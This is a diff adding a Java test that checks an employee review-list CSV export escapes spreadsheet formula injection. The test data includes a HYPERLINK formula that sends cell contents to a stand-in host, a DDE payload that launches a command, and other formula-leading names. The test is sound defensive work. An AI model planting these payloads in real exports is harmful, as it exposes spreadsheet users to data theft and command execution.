@@ -17,6 +17,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import java.util.Arrays;
 import java.util.List;
+import java.util.Map;
 import nl.gesprekscyclus.notification.Notification;
 import nl.gesprekscyclus.notification.NotificationKind;
 import nl.gesprekscyclus.notification.Notifications;
@@ -54,6 +55,8 @@ class MonitoringServiceTests {
     OrganisationDirectory directory;
     @Autowired
     JdbcTemplate jdbc;
+    @Autowired
+    ReviewListExport export;
 
     ProcessDriver driver;
 
@@ -194,6 +197,62 @@ class MonitoringServiceTests {
         assertThat(previous.weeks()).isGreaterThan(50);
         // Nijland's progress phase is not finished
         assertThat(previous.finished(PROGRESS, previous.weeks() - 1)).isZero();
+    }
+
+    /**
+     * Names come from the HR system's file and the admin's form: one that starts like a formula must reach the
+     * spreadsheet as text (OWASP CSV injection), every sign a spreadsheet takes for a formula, in every column that
+     * holds one (employee, cluster, assignee).
+     */
+    @Test
+    void shouldWriteNamesThatLookLikeFormulasAsTextInTheCsv() throws Exception {
+        driver.moveClockTo(MonitoringFixture.JUNE_2033);
+        MonitoringScope scope = new MonitoringScope(round(LAST_YEAR), null, null);
+        String hyperlink = "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")";
+        Map<String, String> firstNames = new java.util.LinkedHashMap<>();
+        for (String number : List.of(RAMDIN, NIJLAND, EL_AMRANI)) {
+            firstNames.put(number, jdbc.queryForObject("select first_name from employee where personnel_number = ?",
+                    String.class, number));
+        }
+        long concern = cluster("concern-en-ondersteuning");
+        String clusterName = jdbc.queryForObject("select name from cluster where id = ?", String.class, concern);
+        try {
+            setFirstName(RAMDIN, hyperlink);
+            setFirstName(NIJLAND, "-Anna");
+            setFirstName(EL_AMRANI, " @SUM(1+1)");
+            jdbc.update("update cluster set name = ? where id = ?", "+31 cmd|' /C calc'!A0", concern);
+
+            List<List<String>> rows = new java.util.ArrayList<>();
+            for (ReviewStatus status : List.of(OVERDUE, DONE)) {
+                java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
+                export.csv(new DrillDown(scope, PLANNING, status), key -> key, java.time.ZoneId.systemDefault(), out);
+                byte[] bytes = out.toByteArray();
+                org.apache.commons.csv.CSVFormat.DEFAULT.builder().setDelimiter(';').get()
+                        .parse(new java.io.InputStreamReader(new java.io.ByteArrayInputStream(bytes, 3, bytes.length - 3),
+                                java.nio.charset.StandardCharsets.UTF_8))
+                        .getRecords().stream().skip(1).forEach(r -> rows.add(r.toList()));
+            }
+
+            // employee (1) and assignee (6) of Ramdin, who is late with her own task
+            List<String> ramdin = rows.stream().filter(r -> r.get(0).equals(RAMDIN)).findFirst().orElseThrow();
+            assertThat(ramdin.get(1)).isEqualTo("'" + hyperlink + " Ramdin");
+            assertThat(ramdin.get(6)).isEqualTo("'" + hyperlink + " Ramdin");
+            assertThat(rows.stream().filter(r -> r.get(0).equals(NIJLAND)).findFirst().orElseThrow().get(1))
+                    .isEqualTo("'-Anna Nijland");
+            assertThat(rows.stream().filter(r -> r.get(0).equals(EL_AMRANI)).findFirst().orElseThrow().get(1))
+                    .startsWith("' @SUM(1+1) ");
+            assertThat(rows).filteredOn(r -> r.get(2).contains("cmd")).isNotEmpty()
+                    .allSatisfy(r -> assertThat(r.get(2)).isEqualTo("'+31 cmd|' /C calc'!A0"));
+            // no cell of the file starts as a formula
+            assertThat(rows).allSatisfy(r -> assertThat(r).noneMatch(cell -> cell.strip().matches("^[=+\\-@].*")));
+        } finally {
+            firstNames.forEach(this::setFirstName);
+            jdbc.update("update cluster set name = ? where id = ?", clusterName, concern);
+        }
+    }
+
+    private void setFirstName(String personnelNumber, String firstName) {
+        jdbc.update("update employee set first_name = ? where personnel_number = ?", firstName, personnelNumber);
     }
 
     @Test
